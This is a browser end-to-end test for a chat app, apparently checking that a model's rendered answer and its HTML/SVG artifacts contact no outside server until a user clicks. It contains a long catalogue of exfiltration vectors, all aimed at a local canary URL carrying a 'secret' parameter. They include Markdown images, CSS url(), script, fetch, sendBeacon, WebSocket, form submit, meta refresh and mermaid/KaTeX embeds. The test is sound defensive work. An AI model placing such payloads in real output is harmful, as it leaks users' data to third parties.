/**
 * A-28: what a model was made to write carries nothing out by itself. A server beside the page would see each request
 * that a browser makes for an image, a link or a script of an answer; it sees none until a person clicks.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../../fixtures/test';

/** Sees what is asked of it. */
class Canary {
  readonly seen: string[] = [];
  private constructor(private readonly server: Server) {}

  static async start(): Promise<Canary> {
    const server = createServer();
    const canary = new Canary(server);
    server.on('request', (request, response) => {
      canary.seen.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
      response.end('<h1>The canary saw you</h1>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return canary;
  }

  at(path: string): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/${path}?secret=4711`;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

const fence = (info: string, body: string) => `\`\`\`\`${info}\n${body}\n\`\`\`\`\n`;

/** Every way of Markdown and of HTML inside it that a browser might load by itself. */
const said = (at: (path: string) => string) => `
The answer begins.

![an image](${at('image')}) ![by reference][ref] <img src="${at('html')}"> <img srcset="${at('srcset')} 2x">

[ref]: ${at('reference')}

<link rel="stylesheet" href="${at('css')}"><link rel="preconnect" href="${at('preconnect')}">
<script src="${at('script')}"></script><iframe src="${at('frame')}"></iframe>
<video src="${at('video')}" autoplay></video><object data="${at('object')}"></object>
<div style="background: url(${at('style')})">styled</div>
<svg><image href="${at('svg')}" /><use href="${at('use')}#a" /></svg>
<form action="${at('form')}"><input autofocus onfocus="this.form.submit()"></form>

${fence('mermaid', `graph TD\n  A["<img src='${at('mermaid')}'>"] --> B\n  style A fill:url(${at('fill')})`)}

$$\\includegraphics{${at('katex')}} \\href{${at('href')}}{x}$$

[a link to click](${at('clicked')})

The answer ends.
`;

/** What a program in an artifact tries. */
const page = (at: (path: string) => string) => `
<link rel="dns-prefetch" href="${at('dns')}"><link rel="prefetch" href="${at('prefetch')}">
<style>@import url(${at('import')}); @font-face { font-family: f; src: url(${at('font')}) } h1 { font-family: f; background: url(${at('background')}) }</style>
<h1 id="out">running</h1><button onclick="leave()">Leave</button><img src="${at('artifact-image')}"><iframe src="${at('artifact-frame')}"></iframe>
<script>
const tried = [
  () => fetch('${at('fetch')}', { mode: 'no-cors' }),
  () => navigator.sendBeacon('${at('beacon')}', 'x'),
  () => { new Image().src = '${at('new-image')}'; },
  () => new EventSource('${at('events')}'),
  () => new WebSocket('${at('socket').replace('http', 'ws')}'),
  () => import('${at('module')}'),
  () => new Worker('${at('worker')}'),
  () => open('${at('open')}'),
];
(async () => {
  for (const one of tried) { try { await one(); } catch {} }
  document.getElementById('out').textContent = 'all was tried';
})();
// What would leave the page comes last: a frame that is not let go shows nothing any more.
const leave = () => {
  const form = document.createElement('form');
  form.action = '${at('submit')}';
  const link = Object.assign(document.createElement('a'), { href: '${at('top')}', ping: '${at('ping')}', target: '_top' });
  const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=${at('refresh')}' });
  document.body.append(form, link);
  for (const one of [() => form.submit(), () => link.click(), () => document.head.append(refresh), () => { location.href = '${at('moved')}'; }]) {
    try { one(); } catch {}
  }
};
</script>`;

test('A-28: an answer and its artifact ask nothing of a server of others until a person clicks', async ({
  page: tab,
  context,
  chat,
  guard,
  scripted,
}) => {
  const canary = await Canary.start();
  const at = (path: string) => canary.at(path);
  // The refusals are what is tested: browsers write them to the console, and tell of what they did not send.
  guard.allow(/console: /);
  guard.allow(new RegExp(`off-origin: ${at('')}`.split('?')[0] ?? ''));
  try {
    scripted.on('read the canary', [
      { text: said(at) },
      { text: fence('html id=canary title="Canary" type=html', page(at)) },
      {
        text: fence(
          'svg id=drawn title="Drawn" type=svg',
          `<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg-artifact')}"/><text>drawn</text></svg>`,
        ),
      },
    ]);
    await chat.openNew();
    await chat.ask('Please read the canary.');
    await chat.settled();
    await expect(chat.answer()).toContainText('The answer ends.');
    const panel = tab.getByRole('complementary', { name: 'Artifacts' });
    await expect(panel).toBeVisible();
    await chat
      .answer()
      .getByRole('button', { name: /Canary/ })
      .click();
    const frame = panel.frameLocator('iframe');
    await expect(frame.locator('#out')).toHaveText('all was tried');
    await frame.getByRole('button', { name: 'Leave' }).click();
    await expect(frame.locator('#out')).toHaveCount(0);
    await chat.answer().getByRole('button', { name: /Drawn/ }).click();
    await expect(panel).toContainText('Drawn');
    // A request that was begun before this one has arrived before it.
    await fetch(at('control'));
    expect(canary.seen).toEqual(['GET /control?secret=4711']);

    // A person may follow a link, and then the canary sees it: it would have seen the others.
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      chat.answer().getByRole('link', { name: 'a link to click' }).click(),
    ]);
    await expect(opened.getByText('The canary saw you')).toBeVisible();
    expect(canary.seen.filter((request) => request.startsWith('GET /clicked'))).toHaveLength(1);
    await opened.close();
  } finally {
    await canary.stop();
  }
});
